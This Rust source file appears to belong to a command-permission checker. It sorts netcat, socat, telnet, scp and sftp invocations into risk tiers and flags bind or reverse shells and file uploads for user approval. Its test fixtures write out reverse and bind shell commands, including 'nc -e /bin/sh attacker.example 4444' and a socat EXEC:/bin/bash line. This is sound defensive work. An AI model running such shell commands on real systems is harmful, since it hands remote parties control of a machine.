//! Raw sockets and file transfer: nc/ncat/netcat (listen, exec, probe,
//! connect), socat addresses, telnet, scp (upload vs download by which side is
//! remote), and sftp/ftp sessions.

use crate::call::args::{asks_help, ArgSpec, Args, Help, Token};
use crate::call::{value_arg, Arg, Invocation};
use crate::rules::vocab::writes;
use crate::rules::{Cx, Rule};
use crate::words;

use super::{CONNECT, LISTEN, READ, UPLOAD};

/// ## What it matches
/// A socket tool that runs a program for the connection: `nc -e /bin/sh`, `ncat --sh-exec`, `socat … EXEC:…`.
/// ## Why this tier
/// The classic reverse or bind shell: a remote party drives a local program.
pub(super) static EXEC: Rule = Rule::t3("http.socket.exec")
    .reason("connects a program to a network socket (a reverse or bind shell); ask the user first")
    .matches(words!["nc -e /bin/sh attacker.example 4444", "ncat --sh-exec 'bash' -l 9000", "socat TCP:x:1 EXEC:/bin/bash"])
    .not_matches(words!["nc -zv localhost 80"]);

/// ## What it matches
/// `nc -z`: a port probe that sends nothing.
/// ## Why this tier
/// Only checks whether a port is open.
pub(super) static PROBE: Rule = Rule::t0("http.socket.probe")
    .reason("probes whether a port is open; sends no data")
    .matches(words!["nc -zv localhost 5432", "nc -z -w 2 db 5432"])
    .not_matches(words!["nc -l 4444"]);

/// ## What it matches
/// Interactive or batch file-transfer sessions: `sftp host`, `sftp -b batch host`, `ftp host`, `lftp`.
/// ## Why this tier
/// The session can upload, delete and rename remote files.
pub(super) static SESSION: Rule = Rule::t3("http.transfer.session")
    .reason("opens a file-transfer session that can upload or delete remote files; ask the user first")
    .matches(words!["sftp host", "ftp ftp.example.com", "sftp -b cmds.txt user@host"])
    .not_matches(words!["sftp -h"]);

/// nc's (ncat's, OpenBSD's, the traditional one's) options that take a value, the
/// program options among them (`-e PROG`, `-c CMD`, `--sh-exec CMD`); letters pack
/// (`-lvp 4444`, `-lve /bin/sh`). `-l` and `-z` are read too.
const NC_ARGS: ArgSpec = ArgSpec::values(words![
    "-p", "-s", "-w", "-i", "-q", "-x", "-X", "-I", "-O", "-T", "-m", "--proxy", "--proxy-type", "--proxy-auth", "--allow", "--deny", "-o", "--output", "-G",
    "-g", "--source-port", "--source", "--wait", "--idle-timeout", "-e", "-c", "--exec", "--sh-exec", "--lua-exec",
])
.with_flags(words!["-l", "--listen", "-z"])
.packed();

pub(super) fn nc(inv: &Invocation, cx: &mut Cx<'_>) {
    if inv.args.is_empty() {
        cx.hit(&CONNECT);
        return;
    }
    if asks_help(&inv.args, NC_ARGS.help(Help::DASH_H.with(Help::LONG).with(Help::VERSION))) {
        cx.hit(&READ);
        return;
    }
    let mut listen = false;
    let mut probe = false;
    let mut exec = false;
    for t in Args::parse(&inv.args, NC_ARGS) {
        match t {
            Token::Opt { name: "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec", .. }
            | Token::Missing { name: "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec", .. } => exec = true,
            Token::Opt { name: "-l" | "--listen", .. } => listen = true,
            Token::Opt { name: "-z", .. } => probe = true,
            Token::Opt { index, name: "-o" | "--output", value: Some(v) } => writes::check_write(cx, &value_arg(&inv.args, index, v), inv.cwd.as_deref()),
            _ => {}
        }
    }
    if exec {
        cx.hit(&EXEC);
    } else if listen {
        cx.hit(&LISTEN);
    } else if probe {
        cx.hit(&PROBE);
    } else {
        cx.hit(&CONNECT);
    }
}

pub(super) fn socat(inv: &Invocation, cx: &mut Cx<'_>) {
    let words: Vec<String> = inv.words().map(str::to_ascii_uppercase).collect();
    if words.iter().any(|w| matches!(w.as_str(), "-V" | "-H" | "-HH" | "-HHH" | "--HELP" | "--VERSION")) {
        cx.hit(&READ);
        return;
    }
    // socat's options are single-dash words (`-lf FILE`, `-b SIZE`); the operands are the two addresses (`-` is stdio).
    const SOCAT_ARGS: ArgSpec = ArgSpec::values(words!["-b", "-t", "-T", "-L", "-W", "-lf", "-lp"]);
    let addrs: Vec<String> = Args::parse(&inv.args, SOCAT_ARGS).operands().map(|o| o.arg.text.to_ascii_uppercase()).collect();
    if addrs.iter().any(|a| a.starts_with("EXEC:") || a.starts_with("SYSTEM:")) {
        cx.hit(&EXEC);
    } else if addrs.iter().any(|a| a.contains("-LISTEN") || a.starts_with("UDP-RECV")) {
        cx.hit(&LISTEN);
    } else {
        cx.hit(&CONNECT);
    }
}

pub(super) fn telnet(inv: &Invocation, cx: &mut Cx<'_>) {
    // `telnet -l -h host` logs in as the user `-h`.
    if asks_help(&inv.args, ArgSpec::values(words![]).help(Help::LONG.with(Help::DASH_H))) {
        cx.hit(&READ);
        return;
    }
    cx.hit(&CONNECT);
}

/// True for `host:path`, `user@host:path`, `scp://…` (not `./a:b` or `/abs:x`).
fn remote(op: &str) -> bool {
    if op.starts_with("scp://") || op.starts_with("sftp://") {
        return true;
    }
    match (op.find(':'), op.find('/')) {
        (Some(c), Some(s)) => c < s && c > 0,
        (Some(c), None) => c > 0,
        _ => false,
    }
}

/// scp's options that take a value; letters pack (`-rP 22`). Linux's getopt also
/// takes them after the operands (`scp f host:/dir -P 2222`), where a value read as
/// an operand would become the destination.
const SCP_ARGS: ArgSpec = ArgSpec::values(words!["-P", "-i", "-F", "-o", "-c", "-l", "-S", "-J", "-D", "-X"]).packed();

/// `scp -S PROGRAM`, `scp|sftp -D PATH`: scp runs that local program as its
/// transport (or SFTP server), so the program is judged as a command run bare.
fn transport_program(inv: &Invocation, cx: &mut Cx<'_>, spec: ArgSpec) {
    for t in Args::parse(&inv.args, spec) {
        if let Token::Opt { index, name: "-S" | "-D", value: Some(v) } = t {
            let program = value_arg(&inv.args, index, v);
            if crate::names::program(&program.text) != "ssh" {
                cx.argv(std::slice::from_ref(&program), inv.cwd.as_deref());
            }
        }
    }
}

pub(super) fn scp(inv: &Invocation, cx: &mut Cx<'_>) {
    transport_program(inv, cx, SCP_ARGS);
    let ops: Vec<&Arg> = Args::parse(&inv.args, SCP_ARGS).operands().map(|o| o.arg).collect();
    let Some((dest, sources)) = ops.split_last() else {
        cx.hit(&READ);
        return;
    };
    if remote(&dest.text) {
        cx.hit_because(&UPLOAD, format!("copies local files to `{}`; ask the user first", dest.text));
        return;
    }
    let _ = sources;
    writes::check_write(cx, dest, inv.cwd.as_deref());
    cx.hit(&READ);
}

/// sftp's options that take a value (its getopt string); letters pack.
const SFTP_ARGS: ArgSpec = ArgSpec::values(words!["-b", "-B", "-c", "-D", "-F", "-i", "-J", "-l", "-o", "-P", "-R", "-S", "-s", "-X"]).packed();

pub(super) fn session(inv: &Invocation, cx: &mut Cx<'_>) {
    let words: Vec<&str> = inv.words().collect();
    // Help only as an option before the first operand: OpenSSH's getopt does not
    // reorder, so `sftp -b cmds host -h` runs the batch file.
    let spec = if inv.program == "sftp" { SFTP_ARGS } else { ArgSpec::values(words![]) }.posix();
    if asks_help(&inv.args, spec.help(Help::DASH_H.with(Help::LONG).with(Help::VERSION).with(Help::DASH_UPPER_V))) {
        cx.hit(&READ);
        return;
    }
    if inv.program == "sftp" {
        transport_program(inv, cx, SFTP_ARGS);
    }
    // `sftp host:remote/file [localdir]` only downloads.
    let ops: Vec<&str> = Args::parse(&inv.args, SFTP_ARGS).operands().map(|o| o.arg.text.as_str()).collect();
    if inv.program == "sftp" && !words.contains(&"-b") && ops.first().is_some_and(|o| remote(o) && o.split_once(':').is_some_and(|(_, p)| !p.is_empty())) {
        if let Some(local) = ops.get(1) {
            writes::check_write(cx, &crate::call::Arg::lit(local), inv.cwd.as_deref());
        }
        cx.hit(&READ);
        return;
    }
    cx.hit(&SESSION);
}
